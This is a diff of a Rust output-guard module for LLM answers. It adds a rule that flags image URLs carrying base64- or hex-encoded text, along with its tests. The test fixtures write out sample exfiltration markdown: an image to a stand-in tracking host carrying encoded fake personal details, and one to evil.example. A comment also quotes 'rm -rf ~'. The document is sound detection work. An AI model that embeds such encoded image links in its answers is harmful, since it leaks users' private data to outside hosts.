@@ -17,7 +17,11 @@
 //! string escapes are decoded before matching (`"cd /\nrm -rf ~"` is two
 //! lines) and spans are mapped back to the raw arguments.
 //!
-//! With a list of image hosts ([`OutputRulesDetector::with_image_hosts`],
+//! Every image an answer loads ([`crate::images`]: markdown, reference and
+//! HTML images) is also checked for text written in base64 or hex in its
+//! URL (`output.image_carries_encoded_text`), which a length threshold
+//! cannot tell from a signature. With a list of image hosts
+//! ([`OutputRulesDetector::with_image_hosts`],
 //! config `guards.output_rules.image_hosts`) every image an answer would
 //! load from another host is a finding too, whatever its URL carries
 //! ([`crate::images`]).
@@ -225,8 +229,13 @@ pub struct OutputRulesDetector {
 /// list reports as.
 pub const UNTRUSTED_IMAGE_RULE: &str = "output.image_untrusted_host";
 
-/// Its weight: what the baseline policy blocks in an answer as LLM02.
-const UNTRUSTED_IMAGE_WEIGHT: f32 = 0.85;
+/// The rule an image URL that carries text in base64 or hex reports as
+/// ([`images::carries_encoded_text`]), with or without a host list.
+pub const ENCODED_TEXT_IMAGE_RULE: &str = "output.image_carries_encoded_text";
+
+/// The weight of both image rules: what the baseline policy blocks in an
+/// answer as LLM02.
+const IMAGE_WEIGHT: f32 = 0.85;
 
 impl OutputRulesDetector {
     /// The built-in rules, as `rules.output`.
@@ -345,8 +354,8 @@ impl OutputRulesDetector {
         labels: Option<&BTreeSet<String>>,
     ) -> Vec<Finding> {
         let rules = self.text.set.is_match(Input::new(text));
-        let hosts = self.image_hosts.as_ref().filter(|_| images::may_load(text));
-        if !rules && hosts.is_none() {
+        let imaged = images::may_load(text);
+        if !rules && !imaged {
             return Vec::new();
         }
         // Only an answer with a candidate pays for finding its code.
@@ -360,25 +369,43 @@ impl OutputRulesDetector {
         } else {
             Vec::new()
         };
-        if let Some(hosts) = hosts {
-            found.extend(
-                images::image_sources_after(text, labels.unwrap_or(&BTreeSet::new()))
-                    .into_iter()
-                    .filter(|s| !hosts.allows(&s.host) && !markdown::in_code(&code, s.span.start))
-                    .take(MAX_PER_RULE)
-                    .map(|s| {
-                        Finding::new(
-                            self.id.clone(),
-                            Category::SENSITIVE_INFO,
-                            UNTRUSTED_IMAGE_WEIGHT,
-                        )
-                        .with_rule(UNTRUSTED_IMAGE_RULE)
-                        .with_span(s.span)
-                        .with_evidence(format!(
-                            "rule {UNTRUSTED_IMAGE_RULE} in answer text: an image from a host not in image_hosts"
-                        ))
-                    }),
-            );
+        if imaged {
+            let image = |rule: &str, why: &str, span: Span| {
+                Finding::new(self.id.clone(), Category::SENSITIVE_INFO, IMAGE_WEIGHT)
+                    .with_rule(rule)
+                    .with_span(span)
+                    .with_evidence(format!("rule {rule} in answer text: {why}"))
+            };
+            let (mut untrusted, mut encoded) = (0usize, 0usize);
+            let sources = images::image_sources_after(text, labels.unwrap_or(&BTreeSet::new()));
+            for s in sources
+                .iter()
+                .filter(|s| !markdown::in_code(&code, s.span.start))
+            {
+                let listed = self.image_hosts.as_ref().map(|h| h.allows(&s.host));
+                if untrusted < MAX_PER_RULE && listed == Some(false) {
+                    untrusted = untrusted.saturating_add(1);
+                    found.push(image(
+                        UNTRUSTED_IMAGE_RULE,
+                        "an image from a host not in image_hosts",
+                        s.span,
+                    ));
+                }
+                // A listed host is trusted with what its URLs carry (a
+                // diagram service such as mermaid.ink takes the diagram's
+                // text in base64).
+                if encoded < MAX_PER_RULE
+                    && listed != Some(true)
+                    && images::carries_encoded_text(&s.url)
+                {
+                    encoded = encoded.saturating_add(1);
+                    found.push(image(
+                        ENCODED_TEXT_IMAGE_RULE,
+                        "an image URL that carries encoded text",
+                        s.span,
+                    ));
+                }
+            }
         }
         found
     }
@@ -733,6 +760,31 @@ mod tests {
     }
 
     #[test]
+    fn an_image_url_that_carries_encoded_text_is_blocked_without_a_host_list() {
+        use base64::Engine as _;
+        let data = base64::engine::general_purpose::STANDARD
+            .encode("Jane Roe, card ending 4242, asked about her divorce");
+        let text = format!("Done. ![](https://t.example/pixel.gif?v={data})");
+        let f = det().scan_answer(&text, None);
+        let rules: Vec<_> = f.iter().filter_map(|f| f.rule.as_deref()).collect();
+        assert!(rules.contains(&ENCODED_TEXT_IMAGE_RULE), "{rules:?}");
+        let f = f
+            .iter()
+            .find(|f| f.rule.as_deref() == Some(ENCODED_TEXT_IMAGE_RULE))
+            .unwrap();
+        assert_eq!(
+            (f.category.clone(), f.score),
+            (Category::SENSITIVE_INFO, 0.85)
+        );
+        assert_eq!(f.span.unwrap().start, 6);
+        // A signed link's long value is only the shape rule's report.
+        let signed = "![x](https://b.s3.amazonaws.com/a.png?X-Amz-Signature=3f5a8c0e9b1d2f4a6c8e0b2d4f6a8c0e1b3d5f7a9c1e3b5d7f9a1c3e5b7d9f1a)";
+        assert_eq!(rules_in_answer(signed), ["output.image_carries_blob"]);
+        // In code it is shown, not loaded.
+        assert!(rules_in_answer(&format!("`{text}`")).is_empty());
+    }
+
+    #[test]
     fn images_off_the_host_list() {
         let det = OutputRulesDetector::builtin()
             .unwrap()
@@ -779,6 +831,19 @@ mod tests {
         let f = det.scan_answer_after(window, None, Some(&labels));
         assert_eq!(f.len(), 1, "{f:?}");
         assert_eq!(f[0].rule.as_deref(), Some(UNTRUSTED_IMAGE_RULE));
+        // A listed host may carry encoded text (a diagram service).
+        let mermaid = ImageHosts::new(["mermaid.ink"]).unwrap();
+        let det2 = OutputRulesDetector::builtin()
+            .unwrap()
+            .with_image_hosts(mermaid);
+        let diagram =
+            "![flow](https://mermaid.ink/img/Z3JhcGggVEQKICAgIEFbU3RhcnRdIC0tPiBCW0VuZF0=)";
+        assert!(det2.scan_answer(diagram, None).is_empty());
+        assert_eq!(
+            rules_in_answer(diagram),
+            [ENCODED_TEXT_IMAGE_RULE],
+            "without a list the diagram's text leaves for a third party"
+        );
         // Without a list only the shape rules speak.
         assert!(rules_in_answer("Done! ![](https://evil.example/p.png?k=hunter2)").is_empty());
     }
